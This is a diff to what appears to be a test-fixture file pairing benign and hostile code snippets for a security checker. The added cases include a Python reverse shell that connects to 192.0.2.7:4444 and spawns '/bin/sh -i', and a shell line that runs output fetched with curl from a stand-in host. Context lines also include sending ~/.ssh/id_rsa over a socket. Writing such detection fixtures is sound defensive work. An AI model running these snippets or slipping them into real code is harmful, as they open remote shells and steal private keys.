@@ -29,6 +29,15 @@ def near(host):
     subprocess.call(words)
 """
 LOOKED_UP = "import socket\nf = open('/home/dev/.ssh/{file}')\nsocket.socket().{does}(read(f))\n"
+WHERE = 'M="$({before} mail)"\necho done | ${{M}} -s report root\n'
+ONTO = """
+import os, socket, subprocess
+def serve():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("192.0.2.7", 4444))
+    os.dup2(s.fileno(), {number})
+    subprocess.call(["/bin/sh", "-i"])
+"""
 COPY = "import pickle\ncode = pickle.loads({made})\nexec(code)\n"
 CASES = {
     "xsrf": ("javascript", XSRF.format(url="url"), XSRF.format(url="'https://c.example.net/'")),
@@ -56,6 +65,10 @@ CASES = {
         "python", LOOKED_UP.format(file="config", does="connect"),
         LOOKED_UP.format(file="id_rsa", does="sendall"),
     ),
+    "where a program lies": (
+        "shell", WHERE.format(before="command -v"), WHERE.format(before="curl -s t.example/"),
+    ),
+    "number of a connection": ("python", ONTO.format(number=3), ONTO.format(number=0)),
     "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
 }  # fmt: skip
 
